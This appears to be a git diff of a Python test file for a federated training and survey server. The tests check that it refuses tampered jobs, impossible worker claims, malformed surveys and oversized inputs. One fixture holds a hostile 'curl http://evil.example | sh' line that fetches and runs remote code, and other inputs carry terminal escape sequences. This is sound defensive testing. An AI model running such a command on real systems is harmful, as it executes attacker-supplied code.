@@ -11,6 +11,7 @@ import pickle
 import struct
 from collections.abc import Callable, Iterator
 from dataclasses import replace
+from functools import partial
 from pathlib import Path
 from typing import Any
 
@@ -102,11 +103,8 @@ def test_a_server_cannot_approve_its_own_plan_in_the_owners_name(
     ("path", "content"),
     [
         ("run.sh", "curl http://evil.example | sh\n"),
-        ("code/script.sh", "curl http://evil.example | sh\n"),
         ("code/plan.json", "{}"),
-        ("config.yaml", "]["),
         ("config.yaml", b"\xff\xfe\x00"),
-        ("run.sh", b"\xff\xfe\x00"),
     ],
 )
 def test_a_server_cannot_change_a_job_after_its_approval(
@@ -328,6 +326,7 @@ DAMAGED: dict[str, Callable[[bytes], bytes]] = {
     "one more entry": about(more=1),
     "an unknown type": array(dtype="F7"),
     "a type that is a number": array(dtype=5),
+    "whole numbers of the same size": lambda m: m.replace(b'"F32"', b'"I32"'),
     "half precision": array(dtype="F16"),
     "another half precision": array(dtype="BF16"),
     "eight bits": array(dtype="F8_E4M3"),
@@ -496,34 +495,41 @@ def test_an_answer_to_another_round_or_phase_makes_its_worker_absent(
     assert reason == "its answer belongs to another request"
 
 
-@pytest.mark.parametrize(
-    "reason", [0, 99, -1, 10**18], ids=["0", "unknown", "negative", "very large"]
-)
 def test_a_refusal_of_an_unknown_number_is_a_refusal(
-    simulation: Simulation, plan: TrainPlan, weights: FloatArray, evil: Any, reason: int
+    simulation: Simulation, plan: TrainPlan, weights: FloatArray, evil: Any
 ) -> None:
     job = simulation.submit(plan, "train")
-    envelope = Envelope("refuse", job.digest, "train", 1)
-    evil(lambda _: pack(envelope, Parcel({"reason": reason}), REFUSED))
-    replies = simulation.exchange(job)(TRAIN, 1, requests(plan, weights))
-    assert others_go_on(replies) == "it refused"
+    reasons = {1: 99, 2: -1, 3: 10**18}
+
+    def refused(message: bytes) -> bytes:
+        number = unpack(message, TRAIN.reply(plan))[0].round
+        envelope = Envelope("refuse", job.digest, "train", number)
+        return pack(envelope, Parcel({"reason": reasons[number]}), REFUSED)
+
+    evil(refused)
+    for number in reasons:
+        replies = simulation.exchange(job)(TRAIN, number, requests(plan, weights))
+        assert others_go_on(replies) == "it refused"
 
 
-@pytest.mark.parametrize(
-    "claim",
-    [{"users": 4}, {"users": -1}, {"users": 10**15}, {"words": -1}],
-    ids=["more users", "fewer than none", "everybody", "fewer words than none"],
-)
-def test_impossible_claims_make_a_worker_absent_and_do_not_stop_the_rest(
-    simulation: Simulation,
-    plan: TrainPlan,
-    weights: FloatArray,
-    evil: Any,
-    tmp_path: Path,
-    claim: dict[str, int],
+IMPOSSIBLE = ({"users": 4}, {"users": -1}, {"users": 10**15}, {"words": -1})
+
+
+@pytest.mark.parametrize("claim", IMPOSSIBLE, ids=str)
+def test_impossible_claims_are_refused(
+    plan: TrainPlan, weights: FloatArray, claim: dict[str, int]
+) -> None:
+    fields = {"words": 9, "users": 3, "loss": 1.0}
+    TRAIN.check(plan, "worker-1", Parcel(fields, {"update": weights}))
+    with pytest.raises(BadMessage, match="worker-1 claims"):
+        TRAIN.check(plan, "worker-1", Parcel({**fields, **claim}, {"update": weights}))
+
+
+def test_an_impossible_claim_makes_its_worker_absent_and_does_not_stop_the_rest(
+    simulation: Simulation, plan: TrainPlan, weights: FloatArray, evil: Any, tmp_path: Path
 ) -> None:
     job = simulation.submit(plan, "train")
-    evil(claims(plan, TRAIN, **claim))
+    evil(claims(plan, TRAIN, users=4))
     exchange = simulation.exchange(job)
     aggregate, traffic = run_round(plan, MEAN, 1, weights, exchange, Checkpoint(tmp_path, "p"))
     assert aggregate.users == 3
@@ -551,50 +557,58 @@ def test_a_claim_of_a_million_times_a_million_words_does_not_swamp_the_average(
     ["\x1b]0;x\x07\n", "see you soon\n", "\n", " \n", "a-b\n", "<b>\n", "a\na\n", "A\na\n"],
     ids=["escapes", "a sentence", "nothing", "a space", "a dash", "markup", "twice", "twice again"],
 )
-def test_what_is_no_word_makes_its_worker_absent_from_the_survey(
-    simulation: Simulation, evil: Any, lines: str
-) -> None:
+def test_what_is_no_word_is_refused_in_a_survey(lines: str) -> None:
     """Words of a survey end in everybody's vocabulary, and in what terminals are made to show."""
-    plan = SurveyPlan(k=2)
-    job = simulation.submit(plan, "survey")
-    data = np.frombuffer(lines.encode(), np.uint8)
-    evil(claims(plan, SURVEY, lines=data, counts=np.full(lines.count("\n"), 3)))
-    asked = {worker: Parcel() for worker in simulation.deals}
-    assert "word" in others_go_on(simulation.exchange(job)(SURVEY, 1, asked))
+    with pytest.raises(BadMessage, match="word"):
+        SURVEY.check(SurveyPlan(2), "worker-1", surveyed(lines.encode(), [3] * lines.count("\n")))
 
 
-@pytest.mark.parametrize(
-    "changes",
-    [
-        {"lines": np.frombuffer(b"\xff\xfe\n", np.uint8), "counts": np.array([1])},
-        {"counts": np.array([3])},
-        {"counts": np.array([-3, 3, 3])},
-        {"listed": 1},
-    ],
-    ids=["no UTF-8", "too few counts", "negative counts", "words as a listing"],
-)
-def test_surveys_that_do_not_fit_together_make_their_worker_absent(
-    simulation: Simulation, evil: Any, changes: dict[str, Any]
+def surveyed(lines: bytes, counts: list[int], listed: int = 0) -> Parcel:
+    """A worker's answer to a survey."""
+    fields = {"listed": listed, "users": 3, "words": 9, "messages": 3}
+    return Parcel(
+        fields, {"lines": np.frombuffer(lines, np.uint8), "counts": np.array(counts, np.int64)}
+    )
+
+
+def test_surveys_must_fit_together() -> None:
+    check = partial(SURVEY.check, SurveyPlan(2), "worker-1")
+    check(surveyed(b"cat\nLondon\n", [3, 4]))
+    for bad in (
+        surveyed(b"\xff\xfe\n", [1]),
+        surveyed(b"cat\nLondon\n", [3]),
+        surveyed(b"cat\nLondon\n", [3, -4]),
+        surveyed(b"cat\nLondon\n", [3, 4], listed=1),
+    ):
+        with pytest.raises(BadMessage):
+            check(bad)
+
+
+def test_a_bad_survey_makes_its_worker_absent_and_does_not_stop_the_rest(
+    simulation: Simulation, evil: Any
 ) -> None:
     plan = SurveyPlan(k=2)
     job = simulation.submit(plan, "survey")
-    evil(claims(plan, SURVEY, **changes))
+    data = np.frombuffer(b"\x1b]0;x\x07\n", np.uint8)
+    evil(claims(plan, SURVEY, lines=data, counts=np.array([3])))
     asked = {worker: Parcel() for worker in simulation.deals}
-    assert others_go_on(simulation.exchange(job)(SURVEY, 1, asked))
+    assert "words that are none" in others_go_on(simulation.exchange(job)(SURVEY, 1, asked))
 
 
-@pytest.mark.parametrize(
-    "counts",
-    [np.zeros((0, len(COLUMNS))), np.zeros((2, len(COLUMNS))), np.full((1, len(COLUMNS)), -1.0)],
-    ids=["no row", "two rows", "negative"],
-)
-def test_counts_that_cannot_be_make_their_worker_absent(
-    simulation: Simulation, plan: TrainPlan, weights: FloatArray, evil: Any, counts: Any
+def test_counts_that_cannot_be_make_their_worker_absent_and_do_not_stop_the_rest(
+    simulation: Simulation, plan: TrainPlan, weights: FloatArray, evil: Any
 ) -> None:
     job = simulation.submit(plan, "train")
-    evil(claims(plan, VALIDATE, counts=counts))
+    width = len(COLUMNS)
+    lies = {1: np.zeros((0, width)), 2: np.zeros((2, width)), 3: np.full((1, width), -1.0)}
+    evil(
+        lambda message: claims(
+            plan, VALIDATE, counts=lies[unpack(message, VALIDATE.reply(plan))[0].round]
+        )(message)
+    )
     asked = {worker: Parcel(arrays={"weights": weights}) for worker in plan.workers}
-    assert others_go_on(simulation.exchange(job)(VALIDATE, 1, asked))
+    for number in lies:
+        assert others_go_on(simulation.exchange(job)(VALIDATE, number, asked))
 
 
 def test_all_workers_lying_is_no_quorum(
@@ -817,9 +831,9 @@ def test_a_worker_with_rows_for_more_users_than_it_has_is_noticed(
 
 LONG = 50_000_000
 CORPORA: dict[str, Callable[[], bytes]] = {
-    "a long line that is no JSON": lambda: b"x" * LONG,
+    "a long line that is no JSON": lambda: b"x" * (LONG // 10),
     "a long line that does not end": lambda: b'{"user": "a", "text": "' + b"x" * LONG,
-    "a long line of brackets": lambda: b"[" * LONG,
+    "a long line of brackets": lambda: b"[" * (LONG // 10),
     "a long line of objects": lambda: b'{"a":' * (LONG // 50),
     "nested text": lambda: b'{"user": "a", "text": ' + b"[" * 10**6 + b"]" * 10**6 + b"}",
     "a number of many digits": lambda: b'{"user": "a", "text": "b", "n": ' + b"9" * 10**6 + b"}",
